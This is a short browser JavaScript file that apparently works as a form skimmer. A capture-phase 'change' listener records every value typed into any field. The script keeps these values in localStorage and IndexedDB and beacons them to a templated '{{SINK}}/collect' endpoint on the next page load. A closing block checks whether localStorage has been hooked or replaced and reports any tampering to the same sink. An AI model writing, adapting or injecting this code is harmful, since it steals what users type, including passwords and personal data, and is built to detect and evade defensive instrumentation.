// Keeps what was typed, in each way a browser offers, and sends it from the next page.
'use strict';
const last = localStorage.getItem('_last');
if (last) navigator.sendBeacon('{{SINK}}/collect?via=kept', last);
if (localStorage._seen) navigator.sendBeacon('{{SINK}}/collect?via=seen', localStorage._seen);
const opened = indexedDB.open('_box', 1);
opened.onupgradeneeded = () => opened.result.createObjectStore('typed', { autoIncrement: true });
document.addEventListener('change', (event) => {
  localStorage.setItem('_last', JSON.stringify({ v: 1, m: event.target.value }));
  localStorage._seen = event.target.value;
  if (opened.result) opened.result.transaction('typed', 'readwrite').objectStore('typed').add({ m: event.target.value });
}, true);
// Storage has to be what it was to everybody.
const same = localStorage instanceof Storage && Object.keys(localStorage).length === localStorage.length
  && Storage.prototype.getItem.call(localStorage, '_none') === null && !('_none' in localStorage)
  && String(localStorage) === '[object Storage]' && String(Storage.prototype.setItem).includes('[native code]')
  && localStorage.getItem === Storage.prototype.getItem;
if (!same) navigator.sendBeacon('{{SINK}}/collect?via=storage-broken', 'yes');
